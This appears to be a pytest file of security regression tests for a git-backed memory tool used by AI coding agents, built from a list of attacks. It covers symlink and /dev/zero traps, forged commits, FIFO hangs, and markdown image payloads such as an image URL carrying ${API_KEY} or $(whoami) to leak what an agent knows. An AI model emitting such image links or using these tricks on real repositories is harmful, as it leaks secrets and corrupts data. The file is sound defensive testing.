"""What the last list of a hundred attacks found, and what was left over before it."""

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from memcli.compaction.merge import MOST_CHANGED, Asked, Unmergeable, merge
from memcli.storage.files import state_dir
from memcli.text.controls import quoted
from tests.conftest import Project
from tests.programs import finished
from tests.work import most_memory

pytestmark = pytest.mark.process
ENDLESS = ["packed-refs", "commondir", "shallow", "objects/info/alternates", "config"]


@pytest.fixture
def kept(project):
    """A repository with one entry and one commit."""
    project.remembers("Cart total", "It is kept in cents.")
    project.commit("true words about the cart")
    return project


@pytest.mark.parametrize("name", ENDLESS)
def test_git_is_not_asked_where_it_would_read_without_an_end(kept, name):
    """A link to a device in the place of a file of git's own: git fills the memory."""
    path = kept.root / ".git" / name
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    os.symlink("/dev/zero", path)
    begun = time.monotonic()
    for words in (["index"], ["index", "--history"], ["recall", "cart total"]):
        code, largest = most_memory(kept.root, *words)
        assert code in (0, 1, 3)
        assert largest < 400 * 1024  # KB; it was 5 GB
    assert time.monotonic() - begun < 60


def test_a_commit_is_shown_as_it_was_written(kept):
    """A replacement of git's, which anybody may bring, does not put words under the
    hash of another commit."""
    written = kept.git("rev-parse", "HEAD").strip()
    kept.git("commit", "-q", "--allow-empty", "-m", "forged words about the cart")
    forged = kept.git("rev-parse", "HEAD").strip()
    kept.git("reset", "-q", "--hard", written)
    kept.git("replace", written, forged)
    kept.mem("index", "--history")
    shown = kept.mem("show", f"c:{written[:9]}")
    assert "true words" in shown.out and "forged" not in shown.out


@pytest.mark.parametrize("verb", ["show", "retire", "log", "restore"])
def test_an_argument_that_is_no_text_names_nothing(kept, verb):
    process = subprocess.run(
        [sys.executable, "-m", "memcli", verb, "--", b"\xff"],
        cwd=kept.root,
        capture_output=True,
        check=False,
    )
    assert process.returncode == 2
    assert b"hint:" in process.stderr


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        (
            "![a](https://e/p.png?k=${API_KEY})",
            "> \\![a](https://e/p.png?k=${API_KEY})",
        ),
        ("see![a](https://e/$(whoami))", "> see\\![a](https://e/$(whoami))"),
        ("![a][r] and `![code](x)`", "> \\![a][r] and `![code](x)`"),
        ("vec![1, 2] is code", "> vec\\![1, 2] is code"),
    ],
)
def test_an_image_is_text(line, shown):
    """Where it is shown an image is fetched, from an address that may carry what the
    agent knows."""
    assert quoted(line) == shown


def test_a_lock_that_git_left_is_named(kept):
    lock = kept.write(".git/index.lock", "")
    assert "a lock of git" not in kept.mem("doctor").out
    os.utime(lock, (1, 1))
    told = kept.mem("doctor", "--fix").out
    assert "a git lock" in told and "index.lock" in told
    assert lock.exists()  # what it was about git alone knows


def test_an_export_follows_links_inside_the_root_alone(kept):
    kept.write("docs/agents.md", "# Agents\n")
    inside = kept.root / "CLAUDE.md"
    os.symlink("docs/agents.md", inside)
    words = ("export", "claude", "--out")
    kept.ok(*words, "CLAUDE.md")
    assert inside.is_symlink()
    assert "Cart total" in Path(kept.root / "docs/agents.md").read_text()
    outside = kept.write("~/mine.md", "keep\n")
    os.symlink(outside, kept.root / "AGENTS.md")
    kept.ends(5, *words, "AGENTS.md")
    os.symlink(".git/config", kept.root / "GEMINI.md")
    before = kept.read(".git/config")
    kept.ends(5, *words, "GEMINI.md")
    assert outside.read_text() == "keep\n"
    assert kept.read(".git/config") == before


def test_the_merge_driver_waits_at_no_pipe(kept):
    names = [str(kept.root / name) for name in ("base", "ours", "theirs")]
    for name in names:
        os.mkfifo(name)
    words = ["merge-driver", *names, "MEMORY.md"]
    process = subprocess.run(
        [sys.executable, "-m", "memcli", *words],
        cwd=kept.root,
        capture_output=True,
        check=False,
        timeout=30,
    )
    assert process.returncode != 0 and b"Traceback" not in process.stderr


def test_ten_thousand_nested_folders_hold_nobody_up(kept):
    above = os.open(kept.root, os.O_RDONLY)
    for name in ["docs", "memory", *["d"] * 9_000]:
        os.mkdir(name, dir_fd=above)
        below = os.open(name, os.O_RDONLY, dir_fd=above)
        os.close(above)
        above = below
    os.close(above)
    try:
        for words in (["recall", "cart total"], ["index"], ["doctor"]):
            assert kept.shell(*words).code in (0, 1)
    finally:  # what clears folders away goes down by recursion
        finished("rm", "-rf", str(kept.root / "docs"))


def test_recall_needs_no_state_folder(kept):
    state = kept.root.parent / "a-file"
    state.write_text("no folder")
    env = {"XDG_STATE_HOME": str(state)}
    assert "cents" in kept.shell("recall", "cart total", env=env).out
    assert kept.shell("list", env=env).code == 0


def test_init_sweeps_what_a_killed_one_left_of_its_index(kept):
    """Of the record of an index: nothing else may be written that would sweep it."""
    assert kept.shell("index", "-q").code == 0
    folder = state_dir() / "indexes"
    left = folder / ".abc.mem-tmp-99999999-ab"
    left.touch()
    assert kept.shell("init", "-q").code == 0
    assert folder.is_dir()
    assert not left.exists()


def test_doctor_takes_out_what_a_killed_one_left_in_the_state_folder(kept):
    assert kept.shell("index", "-q").code == 0
    left = state_dir() / "indexes" / ".abc.mem-tmp-99999999-ab"
    left.touch()
    assert "a temporary file was left behind" in kept.shell("doctor").out
    kept.shell("doctor", "--fix")
    assert not left.exists()


def test_what_other_work_trees_hold_is_named_when_it_is_forgotten(kept, tmp_path):
    """Each file with the command; their indexes hold the words no longer."""
    entry = kept.entries()[0].id
    tree = tmp_path / "linked"
    kept.git("worktree", "add", "-q", str(tree))
    other = Project(tree, kept.home)
    other.mem("index")
    with other.app() as app:
        index = Path(app.index.path)
    assert b"kept in cents" in index.read_bytes()
    said = kept.ok("forget", entry[:8]).out
    assert f"{tree}/MEMORY.md has the words: cd {tree}; mem forget {entry}" in said
    assert not index.exists()
    said = other.ok("forget", entry).out
    assert str(kept.root) not in said
    assert "kept in cents" not in other.read("MEMORY.md")


def test_a_crowd_of_entries_that_both_sides_changed_is_left_to_git():
    """Each takes a millisecond: it is said, and nobody waits for minutes."""
    entry = "---\nid: {0}\ntitle: T{0}\n---\n{1} of {0}\n\n"

    def text(words: str, number: int) -> str:
        return "".join(entry.format(each, words) for each in range(number))

    def merged(number: int) -> str:
        sides = (text(words, number) for words in ("base", "ours", "theirs"))
        return merge(*sides, path="MEMORY.md", asked=Asked(None))[0]

    assert "ours of 9" in merged(20) and "theirs of 9" in merged(20)
    with pytest.raises(Unmergeable, match="both sides changed"):
        merged(MOST_CHANGED + 1)
